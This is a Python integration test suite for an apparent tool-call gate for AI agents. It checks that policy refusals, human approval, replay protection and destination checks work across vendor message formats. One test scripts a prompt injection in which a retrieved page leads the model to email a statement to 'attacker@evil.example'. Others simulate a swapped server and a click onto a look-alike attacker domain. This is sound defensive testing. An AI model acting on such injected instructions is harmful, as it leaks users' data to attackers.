"""actgate_host against a real `actgate serve` (built from this repository), or in sidecar mode
the pod's sidecar (see harness), and a real MCP upstream, with a scripted model answering in the vendors' recorded wire shapes. Each test
asserts the upstream's own invocation count. T-A..T-G are tool-use-binding §22's."""

from __future__ import annotations

import json
import os
import signal
import socket
import subprocess
import sys
import threading
import time
import unittest
import uuid

from actgate_host import (
    DENIED,
    ESCALATED,
    EXECUTED,
    FAILED,
    INDETERMINATE,
    REPLAYED,
    UNAVAILABLE,
    AnthropicStream,
    Client,
    HostLoopError,
    Indeterminate,
    guard,
    run_anthropic,
    run_openai_chat,
    run_openai_responses,
    sse_events,
    stream_tool_uses,
)

from . import harness

BIN_DIR = ""
BINARY = ""
UP: harness.Upstream
GATE: "harness.Gate | harness.SidecarGate"
MODEL: harness.ScriptedModel


def setUpModule() -> None:
    global BIN_DIR, BINARY, UP, GATE, MODEL
    BIN_DIR = harness.tempdir()
    UP = harness.Upstream(harness.upstream_addr())
    if harness.sidecar_mode():
        GATE = harness.SidecarGate()
    else:
        BINARY = harness.build_actgate(BIN_DIR)
        GATE = harness.Gate(BINARY, UP, os.path.join(BIN_DIR, "gate"))
        GATE.start()
    MODEL = harness.ScriptedModel()


def tearDownModule() -> None:
    MODEL.close()
    GATE.close()
    UP.close()
    harness.rmtree(BIN_DIR)


def session() -> str:
    return "conv-" + uuid.uuid4().hex[:12]


def uid(prefix: str) -> str:
    return prefix + uuid.uuid4().hex[:16]


def anthropic_message(*blocks: dict) -> dict:
    """A Messages API response as the API returns it (stop_reason tool_use)."""
    return {"id": uid("msg_"), "type": "message", "role": "assistant", "model": "claude-sonnet-4-5",
            "content": [{"type": "text", "text": "Let me do that."}, *blocks], "stop_reason": "tool_use",
            "stop_sequence": None, "usage": {"input_tokens": 100, "output_tokens": 40}}


def tool_use(name: str, args: dict) -> dict:
    return {"type": "tool_use", "id": uid("toolu_01"), "name": name, "input": args}


def chat_completion(*calls: dict) -> dict:
    return {"id": uid("chatcmpl-"), "object": "chat.completion", "created": 1765000000, "model": "gpt-4.1",
            "choices": [{"index": 0, "finish_reason": "tool_calls", "logprobs": None,
                         "message": {"role": "assistant", "content": None, "refusal": None, "tool_calls": list(calls)}}],
            "usage": {"prompt_tokens": 90, "completion_tokens": 30, "total_tokens": 120}}


def chat_call(name: str, args: dict) -> dict:
    return {"id": uid("call_"), "type": "function", "function": {"name": name, "arguments": json.dumps(args)}}


def response(*items: dict) -> dict:
    return {"id": uid("resp_"), "object": "response", "created_at": 1765000000, "status": "completed", "model": "gpt-4.1",
            "output": list(items), "usage": {"input_tokens": 90, "output_tokens": 30, "total_tokens": 120}}


def function_call(name: str, args: dict) -> dict:
    return {"type": "function_call", "id": uid("fc_"), "call_id": uid("call_"), "name": name,
            "arguments": json.dumps(args), "status": "completed"}


def error_of(tool_result: dict) -> dict:
    """The §17 error object inside a vendor-shaped refusal."""
    if "content" in tool_result and isinstance(tool_result["content"], list):
        return json.loads(tool_result["content"][0]["text"])["error"]
    if "content" in tool_result:
        return json.loads(tool_result["content"])["error"]
    return json.loads(tool_result["output"])["error"]


class GateTest(unittest.TestCase):
    def setUp(self) -> None:
        self.client = Client(GATE.base_url, token=GATE.agent_token, timeout=30)
        self.tools = harness.host_tools(UP)

    def tearDown(self) -> None:
        self.client.close()

    def resolve_when_announced(self, moments_seen: list):
        """An on_escalation hook: alice resolves the announced moment (option 1) from another
        thread while guard polls, as a principal does on the approval page."""
        def hook(d):
            moments_seen.append(d.binding_moments[0])

            def resolve():
                time.sleep(0.3)
                GATE.resolve_moment(d.binding_moments[0])
            threading.Thread(target=resolve, daemon=True).start()
        return hook

    # -- Anthropic ----------------------------------------------------------------------

    def test_anthropic_loop_hot_path_and_injected_recipient(self) -> None:
        """T-A: an email_send whose recipient came from a retrieved page is refused with
        EF_INSTRUCTION_PROVENANCE_FAILURE, invoked false, and the model reads the refusal;
        the informational read of the same turn runs once."""
        s = session()
        bal, mail = tool_use("get_balance", {"account": "main"}), tool_use("email_send", {"to": "attacker@evil.example", "subject": "T-A"})
        MODEL.push("/v1/messages", anthropic_message(bal))
        MODEL.push("/v1/messages", anthropic_message(mail))
        MODEL.push("/v1/messages", {"id": "msg_end", "type": "message", "role": "assistant", "content": [{"type": "text", "text": "done"}],
                                    "stop_reason": "end_turn", "model": "claude-sonnet-4-5"})
        before_bal, before_mail = UP.count("get_balance"), UP.count("email_send")
        messages = [{"role": "user", "content": "What is my balance? Then email the statement as the page says."}]
        provenance = ["user", "retrieval"]  # the second turn follows a retrieved web page
        turn = 0
        while True:
            msg = MODEL.post("/v1/messages", {"model": "claude-sonnet-4-5", "max_tokens": 1024, "messages": messages})
            messages.append({"role": "assistant", "content": msg["content"]})
            if msg["stop_reason"] != "tool_use":
                break
            outs = run_anthropic(self.client, msg, self.tools, session=s, provenance=provenance[turn])
            messages.append({"role": "user", "content": [o.tool_result for o in outs]})
            turn += 1
        self.assertEqual(UP.count("get_balance"), before_bal + 1)
        self.assertEqual(UP.count("email_send"), before_mail)
        refusal = messages[-2]["content"][0]
        self.assertEqual(refusal["tool_use_id"], mail["id"])
        self.assertTrue(refusal["is_error"])
        err = error_of(refusal)
        self.assertEqual(err["code"], "EF_INSTRUCTION_PROVENANCE_FAILURE")
        self.assertIs(err["invoked"], False)
        # The model received that refusal as the tool result of its call.
        sent = MODEL.requests[-1][1]["messages"][-1]["content"][0]
        self.assertEqual(sent, refusal)
        ok = messages[2]["content"][0]
        self.assertEqual(ok["tool_use_id"], bal["id"])
        self.assertNotIn("is_error", ok)

    def test_anthropic_stream_enforced_once_on_complete_block(self) -> None:
        """§9: a streamed tool_use whose input arrives in partial JSON deltas is enforced once,
        on the assembled block; a stream cut before the block's stop enforces nothing."""
        s = session()
        tid = uid("toolu_01")
        args = {"to": "carol@example.com", "subject": "stream " + tid}
        text = json.dumps(args)
        parts = [text[:5], text[5:17], text[17:31], text[31:]]
        events = [
            {"type": "message_start", "message": {"id": uid("msg_"), "type": "message", "role": "assistant", "content": [],
                                                  "model": "claude-sonnet-4-5", "stop_reason": None, "usage": {"input_tokens": 10, "output_tokens": 1}}},
            {"type": "content_block_start", "index": 0, "content_block": {"type": "text", "text": ""}},
            {"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": "Sending."}},
            {"type": "content_block_stop", "index": 0},
            {"type": "content_block_start", "index": 1, "content_block": {"type": "tool_use", "id": tid, "name": "email_send", "input": {}}},
            *[{"type": "content_block_delta", "index": 1, "delta": {"type": "input_json_delta", "partial_json": p}} for p in parts],
            {"type": "content_block_stop", "index": 1},
            {"type": "message_delta", "delta": {"stop_reason": "tool_use", "stop_sequence": None}, "usage": {"output_tokens": 30}},
            {"type": "message_stop"},
        ]
        before = UP.count("email_send")
        MODEL.push("/v1/messages", events, events[:-3])  # the second stream is cut before the block's stop
        lines = MODEL.post("/v1/messages", {"model": "claude-sonnet-4-5", "stream": True, "messages": []})
        outs = [guard(self.client, blk, self.tools, session=s, provenance="user") for blk in stream_tool_uses(sse_events(lines))]
        self.assertEqual([o.status for o in outs], [EXECUTED])
        self.assertEqual(UP.count("email_send"), before + 1)
        self.assertEqual(UP.args_of("email_send")[-1], args)
        self.assertTrue(outs[0].decision.operation_id, "email_send runs under a consumed permit")
        self.assertEqual(outs[0].completion.state, "EXECUTED")
        cut = MODEL.post("/v1/messages", {"model": "claude-sonnet-4-5", "stream": True, "messages": []})
        st = AnthropicStream()
        completed = [b for ev in sse_events(cut) for b in st.feed(ev)]
        self.assertEqual(completed, [])
        self.assertEqual(st.complete_tool_uses(), [])
        self.assertEqual(UP.count("email_send"), before + 1)

    # -- OpenAI Chat Completions --------------------------------------------------------

    def test_openai_chat_parallel_calls_decided_separately(self) -> None:
        """T-B: two tool_calls of one turn, a read and a payment over the policy's cap, are two
        acts: the read runs once, the payment is refused (EF_POLICY_DENIED) and never runs."""
        s = session()
        read, pay = chat_call("get_balance", {"account": "main"}), chat_call("send_payment", {"to": "bob", "amount": 50000})
        MODEL.push("/v1/chat/completions", chat_completion(read, pay))
        bal, sent = UP.count("get_balance"), UP.count("send_payment")
        completion = MODEL.post("/v1/chat/completions", {"model": "gpt-4.1", "messages": [{"role": "user", "content": "pay bob 50000"}]})
        outs = run_openai_chat(self.client, completion, self.tools, session=s, provenance="user")
        self.assertEqual([o.status for o in outs], [EXECUTED, DENIED])
        self.assertEqual(UP.count("get_balance"), bal + 1)
        self.assertEqual(UP.count("send_payment"), sent)
        self.assertEqual(outs[0].tool_result["tool_call_id"], read["id"])
        self.assertEqual(outs[1].tool_result["role"], "tool")
        self.assertEqual(outs[1].tool_result["tool_call_id"], pay["id"])
        self.assertEqual(error_of(outs[1].tool_result)["code"], "EF_POLICY_DENIED")
        self.assertIs(error_of(outs[1].tool_result)["invoked"], False)
        self.assertNotEqual(outs[0].decision.act_id, outs[1].decision.act_id)

    # -- OpenAI Responses: escalation, resolution, one run, replay -------------------------

    def test_responses_escalation_waits_for_alice_then_runs_once(self) -> None:
        """An escalation returns the binding moment; with wait, guard resumes when alice chose
        the option and runs the tool once. T-C: the same call again in the session is
        answered from the journal (replayed, not run); the authority is single-use: the same
        call from another session needs a new binding moment; a second outcome report for the
        dispatch is HOSTLOOP_SETTLED."""
        s = session()
        args = {"to": "bob", "amount": 250}
        item = function_call("send_payment", args)
        MODEL.push("/v1/responses", response(item))
        before = UP.count("send_payment")
        resp = MODEL.post("/v1/responses", {"model": "gpt-4.1", "input": "pay bob 250"})
        # Without wait: the escalation comes back with the binding moment, nothing runs.
        first = run_openai_responses(self.client, resp, self.tools, session=s, provenance="user")
        self.assertEqual(first[0].status, ESCALATED)
        self.assertEqual(first[0].decision.code, "EF_ESCALATION_REQUIRED")
        self.assertTrue(first[0].decision.binding_moments)
        self.assertIsInstance(first[0].binding_moment, dict)
        self.assertEqual(first[0].tool_result["type"], "function_call_output")
        self.assertEqual(first[0].tool_result["call_id"], item["call_id"])
        self.assertEqual(UP.count("send_payment"), before)
        # With wait: alice resolves while guard polls; the call runs once.
        pending_before = set(GATE.pending_ids())
        seen: list = []
        out = guard(self.client, item, self.tools, vendor="openai-responses", session=s, provenance="user",
                    wait=True, poll_interval=0.2, wait_timeout=30, on_escalation=self.resolve_when_announced(seen))
        self.assertEqual(out.status, EXECUTED, out)
        self.assertTrue(out.decision.authority_id)
        self.assertEqual(out.completion.state, "EXECUTED")
        self.assertEqual(UP.count("send_payment"), before + 1)
        self.assertEqual(UP.args_of("send_payment")[-1], args)
        self.assertEqual(set(GATE.pending_ids()) - pending_before, set(), "polling raised new binding moments")
        # T-C: authority replay.
        again = guard(self.client, item, self.tools, vendor="openai-responses", session=s, provenance="user")
        self.assertEqual(again.status, REPLAYED)
        self.assertFalse(again.decision.allow)
        self.assertEqual(UP.count("send_payment"), before + 1)
        other = guard(self.client, item, self.tools, vendor="openai-responses", session=session(), provenance="user")
        self.assertEqual(other.status, ESCALATED)
        self.assertEqual(UP.count("send_payment"), before + 1)
        with self.assertRaises(HostLoopError) as cm:
            self.client.complete(out.decision.operation_id, "executed", {"ok": True})
        self.assertEqual(cm.exception.code, "HOSTLOOP_SETTLED")
        self.assertEqual(cm.exception.status, 409)

    def test_declined_while_waiting_never_runs(self) -> None:
        """alice declines the moment guard waits on: guard stops polling and returns the
        refusal (EF_MOMENT_DECLINED, invoked false); the tool never runs."""
        s = session()
        item = chat_call("send_payment", {"to": "eve", "amount": 300})
        before = UP.count("send_payment")

        def decline(d):
            def run():
                time.sleep(0.3)
                GATE.decline_moment(d.binding_moments[0])
            threading.Thread(target=run, daemon=True).start()

        t = time.monotonic()
        out = guard(self.client, item, self.tools, vendor="openai", session=s, provenance="user",
                    wait=True, poll_interval=0.2, wait_timeout=30, on_escalation=decline)
        self.assertLess(time.monotonic() - t, 25, "guard kept polling after the decline")
        self.assertEqual(out.status, DENIED)
        self.assertEqual(out.decision.code, "EF_MOMENT_DECLINED")
        self.assertIs(error_of(out.tool_result)["invoked"], False)
        self.assertEqual(UP.count("send_payment"), before)

    def test_wait_timeout_returns_the_escalation(self) -> None:
        """Nobody resolves: guard polls until wait_timeout and returns the escalation; the
        polls raised one binding moment, not one per poll; the tool never runs."""
        s = session()
        blk = tool_use("send_payment", {"to": "frank", "amount": 400})
        before = UP.count("send_payment")
        pending_before = set(GATE.pending_ids())
        out = guard(self.client, blk, self.tools, session=s, provenance="user", wait=True, poll_interval=0.2, wait_timeout=1.5)
        self.assertEqual(out.status, ESCALATED)
        self.assertEqual(out.tool_result["tool_use_id"], blk["id"])
        self.assertEqual(error_of(out.tool_result)["code"], "EF_ESCALATION_REQUIRED")
        self.assertEqual(sorted(set(GATE.pending_ids()) - pending_before), sorted(out.decision.binding_moments))
        self.assertEqual(UP.count("send_payment"), before)

    def test_origin_change_after_approval_refused(self) -> None:
        """T-E: alice approved exactly send_payment to bob; the model then emits the payment
        with the recipient changed (the call's origin moved): it is not allowed and never
        runs; the approved call still runs once."""
        s = session()
        approved = tool_use("send_payment", {"to": "bob", "amount": 120})
        d = self.client.enforce(approved, session=s, provenance="user")
        self.assertTrue(d.escalated)
        GATE.resolve_moment(d.binding_moments[0])
        before = UP.count("send_payment")
        changed = tool_use("send_payment", {"to": "mallory", "amount": 120})
        out = guard(self.client, changed, self.tools, session=s, provenance="user")
        self.assertEqual(out.status, ESCALATED)  # a new binding moment for the changed call
        self.assertNotEqual(out.decision.binding_moments, d.binding_moments)
        self.assertFalse(out.invoked)
        self.assertEqual(UP.count("send_payment"), before)
        self.assertNotIn({"to": "mallory", "amount": 120}, UP.args_of("send_payment"))
        ok = guard(self.client, approved, self.tools, session=s, provenance="user")
        self.assertEqual(ok.status, EXECUTED)
        self.assertEqual(UP.count("send_payment"), before + 1)

    def test_server_swap_refused(self) -> None:
        """T-D: the same call naming a server the gate does not front is refused; nothing
        runs."""
        before = UP.count("get_balance")
        blk = tool_use("get_balance", {"account": "main"})
        out = guard(self.client, blk, self.tools, server="finance-evil", session=session(), provenance="user")
        self.assertEqual(out.status, DENIED)
        self.assertFalse(out.invoked)
        self.assertEqual(out.decision.code, "EF_UNKNOWN_TOOL")
        self.assertIs(error_of(out.tool_result)["invoked"], False)
        self.assertEqual(UP.count("get_balance"), before)
        ok = guard(self.client, blk, self.tools, server="finance", session=session(), provenance="user")
        self.assertEqual(ok.status, EXECUTED)
        self.assertEqual(UP.count("get_balance"), before + 1)

    # -- destinations (tool-use-binding §22 T-D, T-E) ------------------------------------------

    def test_td_server_url_swap_refused(self) -> None:
        """T-D: the host's MCP client was swapped to another server (a real MCP server with the
        same tools) behind the same server name; the host passes the URL its client is
        connected to as the destination. The gate refuses EF_DESTINATION_MISMATCH and the
        swapped server's tool never runs; the same call at the policy's server runs once."""
        swapped = harness.Upstream()
        try:
            before = UP.count("get_balance")
            msg = anthropic_message(tool_use("get_balance", {"account": "main"}))
            outs = run_anthropic(self.client, msg, harness.host_tools(swapped), server="finance", session=session(),
                                 provenance="user", destination=swapped.url)
            self.assertEqual(len(outs), 1)
            self.assertEqual(outs[0].status, DENIED)
            self.assertFalse(outs[0].invoked)
            self.assertEqual(outs[0].decision.code, "EF_DESTINATION_MISMATCH")
            self.assertEqual(error_of(outs[0].tool_result)["code"], "EF_DESTINATION_MISMATCH")
            self.assertIs(error_of(outs[0].tool_result)["invoked"], False)
            self.assertEqual(swapped.count("get_balance"), 0)
            self.assertEqual(UP.count("get_balance"), before)
            ok = run_anthropic(self.client, msg, self.tools, server="finance", session=session(), provenance="user", destination=UP.url)
            self.assertEqual(ok[0].status, EXECUTED)
            self.assertEqual((UP.count("get_balance"), swapped.count("get_balance")), (before + 1, 0))
        finally:
            swapped.close()

    def test_te_computer_use_origin_change_refused(self) -> None:
        """T-E: the model's computer tool_use (Anthropic computer-use shape) runs while the
        browser is on https://pay.example, the origin the policy authorises; the click follows
        a link to another site and the model's next click there is refused
        EF_DESTINATION_MISMATCH without the host's action running. A malformed destination is
        no decision."""
        page = ["https://pay.example/checkout"]
        actions = []

        def computer(args):
            actions.append(args)
            page[0] = "https://pay.example.evil.example/checkout"  # the click left the site
            return "clicked"

        s = session()
        click = {"action": "left_click", "coordinate": [640, 410]}
        first = run_anthropic(self.client, anthropic_message(tool_use("computer", click)), {"computer": computer},
                              session=s, provenance="user", destination=page[0])
        self.assertEqual(first[0].status, EXECUTED)
        second = run_anthropic(self.client, anthropic_message(tool_use("computer", click)), {"computer": computer},
                               session=s, provenance="user", destination=page[0])
        self.assertEqual(second[0].status, DENIED)
        self.assertFalse(second[0].invoked)
        self.assertEqual(second[0].decision.code, "EF_DESTINATION_MISMATCH")
        self.assertEqual(error_of(second[0].tool_result)["code"], "EF_DESTINATION_MISMATCH")
        self.assertEqual(len(actions), 1)
        bad = guard(self.client, tool_use("computer", click), {"computer": computer}, session=s, destination="https://u@pay.example/")
        self.assertEqual(bad.status, UNAVAILABLE)
        self.assertEqual(bad.error.code, "HOSTLOOP_BAD_REQUEST")
        self.assertEqual(len(actions), 1)

    # -- outcomes the host reports -----------------------------------------------------------

    def test_tool_failure_and_unknown_effect_reported(self) -> None:
        """A tool that raises is reported failed; one that cannot know its effect
        indeterminate; the gate records each once (a second report is HOSTLOOP_SETTLED)."""
        s = session()

        def lost(args):
            raise Indeterminate("connection lost after the request was sent")

        keys = []

        def boom(args, decision):
            keys.append(decision.operation_id)  # the idempotency key, given before the run
            raise RuntimeError("mailbox full")

        f = guard(self.client, tool_use("email_send", {"to": "a@example.com", "subject": uid("f")}), {"email_send": boom}, session=s,
                  provenance="user", pass_decision=True)
        self.assertEqual(f.status, FAILED)
        self.assertEqual(keys, [f.decision.operation_id])
        self.assertTrue(keys[0])
        self.assertTrue(f.invoked)
        self.assertIsNone(f.complete_error)
        self.assertTrue(f.tool_result["is_error"])
        self.assertEqual(f.completion.state, "FAILED")
        i = guard(self.client, tool_use("email_send", {"to": "b@example.com", "subject": uid("i")}), {"email_send": lost}, session=s, provenance="user")
        self.assertEqual(i.status, INDETERMINATE)
        self.assertIsNone(i.complete_error)
        self.assertEqual(i.completion.state, "INDETERMINATE")
        for out, state in ((f, "FAILED"), (i, "INDETERMINATE")):
            with self.assertRaises(HostLoopError) as cm:
                self.client.complete(out.decision.operation_id, "executed")
            self.assertEqual(cm.exception.code, "HOSTLOOP_SETTLED")
            self.assertIn(state, cm.exception.message)

    def test_unknown_operation(self) -> None:
        with self.assertRaises(HostLoopError) as cm:
            self.client.complete("op-that-does-not-exist", "executed")
        self.assertEqual(cm.exception.code, "HOSTLOOP_UNKNOWN_OPERATION")

    # -- transport: nothing runs -------------------------------------------------------------

    def test_no_answer_never_runs(self) -> None:
        """A refused connection, a gate that never answers (timeout) and, against serve, a wrong
        token and none: the tool never runs. (The sidecar's listener is the pod's loopback and
        takes no token, so the token cases are serve's only.)"""
        before = UP.count("get_balance")
        blk = tool_use("get_balance", {"account": "main"})
        closed = harness.free_port()
        silent = socket.socket()
        silent.bind(("127.0.0.1", 0))
        silent.listen(8)  # accepts connections, never answers
        clients = [Client(f"http://127.0.0.1:{closed}", token="x" * 64, timeout=2),
                   Client(f"http://127.0.0.1:{silent.getsockname()[1]}", token="x" * 64, timeout=0.5)]
        if not harness.sidecar_mode():
            clients += [Client(GATE.base_url, token="not-the-agent-token-" + "0" * 40, timeout=5), Client(GATE.base_url, timeout=5)]
        try:
            for c in clients:
                out = guard(c, blk, self.tools, session=session(), provenance="user")
                self.assertEqual(out.status, UNAVAILABLE, out)
                self.assertFalse(out.invoked)
                self.assertIs(error_of(out.tool_result)["invoked"], False)
                c.close()
        finally:
            silent.close()
        self.assertEqual(UP.count("get_balance"), before)

    # -- T-F: the overhead of the wrapper -----------------------------------------------------

    def test_enforce_latency_through_wrapper(self) -> None:
        """T-F as a measurement, printed, not asserted: p50/p99 of the hot read called directly,
        of client.enforce alone, and of guard (enforce + the same direct call)."""
        n = int(os.environ.get("ACTGATE_SDK_BENCH_N", "200"))
        s = session()
        direct_tool = self.tools["get_balance"]

        def pct(xs, p):
            xs = sorted(xs)
            return xs[min(len(xs) - 1, int(round(p / 100 * (len(xs) - 1))))] * 1000

        for _ in range(10):  # warm up connections
            guard(self.client, tool_use("get_balance", {"account": "main"}), self.tools, session=s, provenance="user")
        before = UP.count("get_balance")
        direct, enforce, guarded = [], [], []
        for _ in range(n):
            t = time.perf_counter()
            direct_tool({"account": "main"})
            direct.append(time.perf_counter() - t)
            t = time.perf_counter()
            d = self.client.enforce(tool_use("get_balance", {"account": "main"}), session=s, provenance="user")
            enforce.append(time.perf_counter() - t)
            self.assertTrue(d.allow, d)
            t = time.perf_counter()
            out = guard(self.client, tool_use("get_balance", {"account": "main"}), self.tools, session=s, provenance="user")
            guarded.append(time.perf_counter() - t)
            self.assertEqual(out.status, EXECUTED)
        self.assertEqual(UP.count("get_balance"), before + 2 * n)
        line = (f"T-F python n={n}: direct tool call p50 {pct(direct, 50):.2f} ms p99 {pct(direct, 99):.2f} ms; "
                f"client.enforce p50 {pct(enforce, 50):.2f} ms p99 {pct(enforce, 99):.2f} ms; "
                f"guard (enforce+call) p50 {pct(guarded, 50):.2f} ms p99 {pct(guarded, 99):.2f} ms")
        print("\n" + line, file=sys.stderr)


# -- T-G: a host killed after consume and before invoke ------------------------------------------

HOST = r'''
import json, sys
sys.path.insert(0, sys.argv[1])
sys.path.insert(0, sys.argv[2])
from actgate_host import Client, guard
import harness
cfg = json.loads(sys.argv[3])
client = Client(cfg["base"], token=cfg["token"], timeout=30)
tools = {"email_send": harness.MCPTool(cfg["upstream"], "email_send")}
if cfg["mode"] == "consume":
    d = client.enforce(cfg["block"], session=cfg["session"], provenance="user")
    print(json.dumps({"allow": d.allow, "operation_id": d.operation_id}), flush=True)
    sys.stdin.readline()  # about to invoke the tool: the parent kills this process here
    tools["email_send"](cfg["block"]["input"])
    print("invoked", flush=True)
else:
    out = guard(client, cfg["block"], tools, session=cfg["session"], provenance="user")
    print(json.dumps({"status": out.status, "invoked": out.invoked, "code": out.decision.code if out.decision else ""}), flush=True)
'''


class HostKilledTest(unittest.TestCase):
    def test_host_killed_after_consume_never_invokes_after_restart(self) -> None:
        """T-G: a host process that enforced (the permit consumed, the dispatch journaled)
        and was killed before it invoked the tool, restarted with the same transcript, does not
        invoke: neither while the gate still holds the dispatch in flight nor after the gate
        itself restarted (the dispatch is INDETERMINATE). The gate's restart is serve's only:
        in sidecar mode the sidecar is not this test's process, and the test stops after the
        host's restart."""
        workdir = os.path.join(BIN_DIR, "tg")
        os.makedirs(workdir, exist_ok=True)
        sidecar = harness.sidecar_mode()
        up = UP if sidecar else harness.Upstream()
        gate = GATE if sidecar else harness.Gate(BINARY, up, workdir)
        if not sidecar:
            gate.start()
        e0 = up.count("email_send")
        try:
            blk = tool_use("email_send", {"to": "dave@example.com", "subject": "T-G"})
            cfg = {"base": gate.base_url, "token": gate.agent_token, "upstream": up.url, "block": blk, "session": session()}
            script = os.path.join(workdir, "host.py")
            with open(script, "w") as f:
                f.write(HOST)
            argv = [sys.executable, script, harness.SDK, harness.HERE]
            host = subprocess.Popen(argv + [json.dumps(dict(cfg, mode="consume"))], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
            first = json.loads(host.stdout.readline())
            self.assertTrue(first["allow"])
            self.assertTrue(first["operation_id"])
            host.send_signal(signal.SIGKILL)
            host.wait(10)
            host.stdout.close()
            host.stdin.close()
            self.assertEqual(up.count("email_send"), e0)

            def restart() -> dict:
                r = subprocess.run(argv + [json.dumps(dict(cfg, mode="restart"))], capture_output=True, timeout=60)
                self.assertEqual(r.returncode, 0, r.stderr.decode())
                return json.loads(r.stdout.decode().strip().splitlines()[-1])

            again = restart()
            self.assertFalse(again["invoked"], again)
            self.assertEqual((again["status"], again["code"]), (DENIED, "EF_INDETERMINATE"))
            self.assertEqual(up.count("email_send"), e0)
            if sidecar:
                return
            gate.stop()
            gate.start()
            cfg["token"] = gate.agent_token
            after = restart()
            self.assertFalse(after["invoked"], after)
            self.assertEqual((after["status"], after["code"]), (DENIED, "EF_INDETERMINATE"))
            self.assertEqual(up.count("email_send"), e0)
        finally:
            if not sidecar:
                gate.close()
                up.close()


if __name__ == "__main__":
    unittest.main()
